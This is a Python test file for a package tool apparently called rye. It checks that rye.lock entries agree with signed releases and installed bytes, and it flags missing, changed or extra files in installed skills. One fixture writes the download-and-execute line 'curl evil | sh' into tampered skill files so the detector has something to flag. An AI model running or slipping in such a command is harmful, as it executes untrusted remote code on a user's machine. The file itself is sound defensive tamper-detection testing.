"""What rye.lock says of an item against its release and against its bytes, and the attached files of installed skills."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest
from msgspec.structs import replace

from rye.errors import RyeError
from rye.installation.attached_check import attached_problem
from rye.installation.lock_declarations import (
    Declarations,
    check_lock,
    declarations_key,
    installed_declarations_hold,
)
from rye.installation.placement import item_path
from rye.items.identity import Identity
from rye.items.reading import HookAction
from rye.project.layout import Project
from rye.project.lock import Lock, LockedFile, LockedItem, lock_text
from rye.storage.verdicts import Verdicts
from tests.attacks.signed_items import HOOK, directive, signed, skill
from tests.registry.simulated_registry import key

WORK, PDF = Identity("directive", "acme/ops/work"), Identity("skill", "acme/pdf")
DATA = signed(WORK, directive(WORK, hooks=[HOOK]), key("acme"))
DECLARED = Declarations(
    ("rye.search.tool.*",), (), (HookAction("cost.current > 1", "tool", "ops/alarm", (("amount", "1"),)),)
)
ITEM = LockedItem(
    "directive", WORK.id, "1.0.0", len(DATA), hashlib.sha256(DATA).hexdigest(), ".md", "registry.example", 7, 1,
    "SHA256:a", capabilities=DECLARED.capabilities, agent_tools=DECLARED.agent_tools, hooks=DECLARED.hooks,
)  # fmt: skip


@pytest.fixture
def project(tmp_path: Path) -> Project:
    project = Project(tmp_path)
    project.manifest_path.touch()
    put(project, item_path(ITEM), DATA)
    return project


def put(project: Project, path: str, data: bytes) -> Path:
    place = project.root / path
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_bytes(data)
    return place


def forgetful() -> Verdicts:
    return Verdicts(None, b"test")


def refused_declarations(project: Project, *items: LockedItem, verdicts: Verdicts | None = None) -> RyeError:
    with pytest.raises(RyeError) as raised:
        installed_declarations_hold(project, items, verdicts or forgetful())
    assert raised.value.code == "lock-mismatch"
    assert "restore it from version control" in (raised.value.hint or "")
    return raised.value


# A lock and the release that it names


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("size", 1), ("suffix", ".txt"), ("registry", "other.example"), ("keyset", 2), ("signer", "SHA256:b"),
        ("attached", (LockedFile("run.sh", 1, "ab" * 32),)), ("capabilities", ()), ("agent_tools", ("Bash",)), ("hooks", ()),
    ],
)  # fmt: skip
def test_each_word_of_a_release_is_compared(name: str, value: object) -> None:
    with pytest.raises(RyeError, match=rf"than its release does: {name}\.") as raised:
        check_lock(replace(ITEM, **{name: value}), ITEM)
    assert raised.value.code == "lock-mismatch"
    assert f"{WORK} 1.0.0" in raised.value.message


@pytest.mark.parametrize("name", ["capabilities", "agent_tools"])
def test_order_does_not_matter_but_every_entry_does(name: str) -> None:
    def item(*values: str) -> LockedItem:
        return replace(ITEM, **{name: values})

    check_lock(item("a", "b"), item("b", "a"))
    for says, true in ((("a", "b"), ("a",)), (("a",), ("a", "b")), (("a", "a"), ("a",)), (("a", "c"), ("a", "b"))):
        with pytest.raises(RyeError, match=name):
            check_lock(item(*says), item(*true))


@pytest.mark.parametrize("changes", [{"version": "1.0.1"}, {"sha256": "ab" * 32}, {"log": 8}])
def test_another_release_is_another_matter(changes: dict[str, object]) -> None:
    check_lock(replace(ITEM, capabilities=(), **changes), ITEM)


def test_what_a_person_decided_is_not_the_releases_word() -> None:
    mine = replace(
        ITEM, approved_capabilities=("x",), approved_signer="", groups=("dev",), dependencies=("tool:acme/a/b",)
    )
    check_lock(mine, ITEM)


# A lock and the bytes that are installed


def test_words_that_the_bytes_say_hold(project: Project) -> None:
    verdicts = forgetful()
    assert installed_declarations_hold(project, [], verdicts) is True
    assert installed_declarations_hold(project, [ITEM], verdicts) is True


@pytest.mark.parametrize(("name", "value"), [("capabilities", ()), ("agent_tools", ("Bash",)), ("hooks", ())])
def test_a_lock_that_says_something_else_than_the_bytes_is_refused(project: Project, name: str, value: object) -> None:
    error = refused_declarations(project, ITEM, replace(ITEM, **{name: value}))
    assert error.message.endswith(f"than its file does: {name}.")


def test_the_registrys_words_cannot_be_told_from_the_bytes(project: Project) -> None:
    assert installed_declarations_hold(
        project, [replace(ITEM, registry="other.example", keyset=9, signer="x")], forgetful()
    )


def test_what_cannot_be_read_is_neither_accepted_nor_blamed(project: Project) -> None:
    place = project.root / item_path(ITEM)
    other = replace(ITEM, sha256="ab" * 32)
    assert installed_declarations_hold(project, [other], forgetful()) is False
    broken = b"# no directive\n"
    place.write_bytes(broken)
    assert installed_declarations_hold(project, [ITEM], forgetful()) is False
    unreadable = replace(ITEM, sha256=hashlib.sha256(broken).hexdigest())
    assert installed_declarations_hold(project, [unreadable], forgetful()) is False
    place.unlink()
    assert installed_declarations_hold(project, [ITEM], forgetful()) is False


def test_what_was_read_is_remembered_and_every_other_item_is_still_looked_at(project: Project, tmp_path: Path) -> None:
    verdicts = Verdicts(tmp_path / "verdicts", b"test")
    assert installed_declarations_hold(project, [ITEM], verdicts) is True
    (project.root / item_path(ITEM)).unlink()
    assert installed_declarations_hold(project, [ITEM], verdicts) is True
    assert installed_declarations_hold(project, [ITEM, replace(ITEM, id="acme/ops/other")], verdicts) is False


def test_a_refused_lock_is_refused_again_from_memory(project: Project, tmp_path: Path) -> None:
    verdicts = Verdicts(tmp_path / "verdicts", b"test")
    wrong = replace(ITEM, hooks=())
    refused_declarations(project, wrong, verdicts=verdicts)
    refused_declarations(project, wrong, verdicts=verdicts)


def test_a_memory_is_of_one_item_with_its_names_and_its_bytes() -> None:
    verdicts = forgetful()
    sample = replace(ITEM, kind="skill", suffix="SKILL.md", attached=(LockedFile("a", 1, "ab" * 32),))
    others = [
        replace(sample, kind="tool"), replace(sample, id="acme/ops/more"), replace(sample, suffix=".md"),
        replace(sample, sha256="cd" * 32), replace(sample, attached=()),
        replace(sample, attached=(LockedFile("b", 1, "ab" * 32),)),
    ]  # fmt: skip
    keys = [declarations_key(verdicts, item) for item in (sample, *others)]
    assert len(set(keys)) == len(keys)
    turned = replace(sample, attached=(LockedFile("b", 1, "ab" * 32), *sample.attached))
    assert declarations_key(verdicts, turned) == declarations_key(
        verdicts, replace(turned, attached=turned.attached[::-1])
    )
    assert verdicts.key("declarations", "skill", sample.id, "SKILL.md", sample.sha256, "a") == keys[0]


# The attached files of an installed skill


TEXT = signed(PDF, skill(PDF), key("acme"))
SCRIPT = b"#!/bin/sh\n"
SKILL = LockedItem(
    "skill", PDF.id, "1.0.0", len(TEXT), hashlib.sha256(TEXT).hexdigest(), "SKILL.md", "registry.example", 8, 1, "SHA256:a",
    attached=tuple(LockedFile(f"{name}.sh", len(SCRIPT), hashlib.sha256(SCRIPT).hexdigest()) for name in "abcdefghij"),
)  # fmt: skip


@pytest.fixture
def main_file(project: Project) -> Path:
    main = put(project, item_path(SKILL), TEXT)
    for entry in SKILL.attached:
        put(project, f"{Path(item_path(SKILL)).parent.as_posix()}/{entry.path}", SCRIPT)
    project.lock_path.write_text(lock_text(Lock({}, (ITEM, SKILL))))
    return main


def test_the_files_of_an_installed_skill_are_those_of_the_lock(main_file: Path) -> None:
    assert attached_problem(main_file) is None


def test_a_missing_a_changed_and_an_added_file_are_named(main_file: Path) -> None:
    (main_file.parent / "a.sh").unlink()
    (main_file.parent / "b.sh").write_bytes(b"curl evil | sh\n")
    (main_file.parent / "evil.sh").write_bytes(b"curl evil | sh\n")
    found = "a.sh (missing), b.sh (changed), evil.sh (extra)"
    assert attached_problem(main_file) == f"Its files are not those of skill:acme/pdf 1.0.0: {found}."


def test_at_most_eight_files_are_named(main_file: Path) -> None:
    for entry in SKILL.attached:
        (main_file.parent / entry.path).unlink()
    listed = ", ".join(f"{name}.sh (missing)" for name in "abcdefgh")
    assert attached_problem(main_file) == f"Its files are not those of skill:acme/pdf 1.0.0: {listed}."


def test_what_lies_in_another_skills_folder_is_not_this_ones_matter(main_file: Path) -> None:
    put(Project(main_file.parents[5]), ".ai/packages/acme/skills/pdf2/extra", b"x")
    assert attached_problem(main_file) is None


def test_a_skill_that_the_lock_does_not_name_is_told(main_file: Path) -> None:
    stray = put(Project(main_file.parents[5]), ".ai/packages/acme/skills/stray/SKILL.md", TEXT)
    assert attached_problem(stray) == "It lies among the installed items, and rye.lock does not name it."


def test_a_lock_that_cannot_be_read_is_the_problem(main_file: Path) -> None:
    (main_file.parents[5] / "rye.lock").write_text("no lock")
    assert "rye.lock" in (attached_problem(main_file) or "")


def test_what_is_not_installed_is_not_judged(main_file: Path, tmp_path: Path) -> None:
    project = Project(main_file.parents[5])
    own = put(project, ".ai/skills/own/SKILL.md", TEXT)
    put(project, ".ai/skills/own/extra", b"x")
    assert attached_problem(own) is None
    (main_file.parent / "a.sh").unlink()
    assert attached_problem(main_file.parent / "b.sh") is None
    assert attached_problem(project.root / item_path(ITEM)) is None
    nowhere = tmp_path.parent / "nowhere"
    nowhere.mkdir(exist_ok=True)
    (nowhere / "SKILL.md").write_bytes(TEXT)
    assert attached_problem(nowhere / "SKILL.md") is None
